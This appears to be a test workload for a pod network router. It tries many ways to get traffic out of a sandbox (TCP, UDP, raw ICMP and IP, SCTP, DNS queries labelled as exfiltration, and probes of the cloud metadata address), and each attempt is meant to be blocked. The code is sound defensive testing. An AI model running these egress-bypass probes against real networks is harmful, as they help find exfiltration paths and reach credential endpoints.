"""A workload trying every way out, for tests/router.rs. Run in a pod
namespace as root; it calls setuid(UID) first (root keeps its raw
sockets). Every socket carries a mark (SO_MARK; needs CAP_NET_ADMIN,
skipped without it).

    attack.py MARK UID

One JSON line per attempt: {"try": ..., "result": ...}. What counts is what
the world logs, not what this prints: every attempt here must reach nothing.
"""
import json
import os
import socket
import struct
import sys

MARK = int(sys.argv[1], 0)
UID = int(sys.argv[2])
IPPROTO_UDPLITE = 136
TIMEOUT = 2
V4 = ["11.0.0.50", "169.254.169.254", "11.0.0.10"]
V6 = ["2600::50", "2600::10"]


def report(what, result):
    print(json.dumps({"try": what, "uid": os.getuid(), "result": result}), flush=True)


def marked(sock):
    try:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, MARK)
    except PermissionError:
        pass
    sock.settimeout(TIMEOUT)
    return sock


def attempt(what, fn):
    try:
        report(what, fn() or "sent")
    except OSError as e:
        report(what, f"{type(e).__name__}: {e}")


def fam(addr):
    return socket.AF_INET6 if ":" in addr else socket.AF_INET


def tcp(addr, port):
    with marked(socket.socket(fam(addr), socket.SOCK_STREAM)) as s:
        s.connect((addr, port))
        s.sendall(b"GET / HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
        return s.recv(200).decode(errors="replace").split("\r\n")[0] or "closed"


def dgram(addr, port, proto, payload=b"exfil"):
    with marked(socket.socket(fam(addr), socket.SOCK_DGRAM, proto)) as s:
        s.sendto(payload, (addr, port))


def dns_query(name):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00\x00\x01\x00\x01"


def dns_tcp(addr):
    q = dns_query("tcp-exfil.example")
    with marked(socket.socket(socket.AF_INET, socket.SOCK_STREAM)) as s:
        s.connect((addr, 53))
        s.sendall(struct.pack(">H", len(q)) + q)
        return s.recv(100).hex() or "closed"


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def icmp_echo(addr):
    if ":" in addr:  # the kernel fills in the ICMPv6 checksum
        packet = struct.pack(">BBHHH", 128, 0, 0, 0x42, 1) + b"exfil-payload"
        proto = socket.IPPROTO_ICMPV6
    else:
        head = struct.pack(">BBHHH", 8, 0, 0, 0x42, 1)
        body = b"exfil-payload"
        packet = struct.pack(">BBHHH", 8, 0, checksum(head + body), 0x42, 1) + body
        proto = socket.IPPROTO_ICMP
    with marked(socket.socket(fam(addr), socket.SOCK_RAW, proto)) as s:
        s.sendto(packet, (addr, 0))


def ping_socket(addr):
    # Unprivileged ICMP (ping_group_range): the kernel writes the header.
    with marked(socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)) as s:
        s.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 1) + b"exfil-payload", (addr, 0))


def raw_ip(addr, proto):
    with marked(socket.socket(fam(addr), socket.SOCK_RAW, proto)) as s:
        s.sendto(b"\x13\x88\x13\x88" + b"\x00" * 8 + b"exfil-raw", (addr, 0))


def sctp(addr):
    # A real SCTP association when the kernel has SCTP; raw protocol 132
    # packets are sent regardless (raw_ip), so neither kind goes untried.
    with marked(socket.socket(fam(addr), socket.SOCK_STREAM, 132)) as s:
        s.connect((addr, 7000))


def main():
    if UID:
        os.setgroups([])
        os.setgid(UID)
        os.setuid(UID)
    for addr in V4 + V6:
        for port in [22, 80, 443, 7000, 8080, 53]:
            attempt(f"tcp {addr} {port}", lambda: tcp(addr, port))
        attempt(f"udp {addr}", lambda: dgram(addr, 9999, socket.IPPROTO_UDP))
        attempt(f"udplite {addr}", lambda: dgram(addr, 9998, IPPROTO_UDPLITE))
        attempt(f"icmp-echo {addr}", lambda: icmp_echo(addr))
        attempt(f"sctp {addr}", lambda: sctp(addr))
        for proto in (132, 253, 47):
            attempt(f"raw-ip {proto} {addr}", lambda: raw_ip(addr, proto))
    for port in (80, 53):
        attempt(f"udp metadata {port}", lambda: dgram("169.254.169.254", port, socket.IPPROTO_UDP))
    attempt("ping-socket", lambda: ping_socket("11.0.0.50"))
    attempt("dns udp", lambda: dgram("11.0.0.53", 53, socket.IPPROTO_UDP, dns_query("udp-exfil.example")))
    attempt("dns tcp", lambda: dns_tcp("11.0.0.53"))
    report("done", "done")


if __name__ == "__main__":
    main()
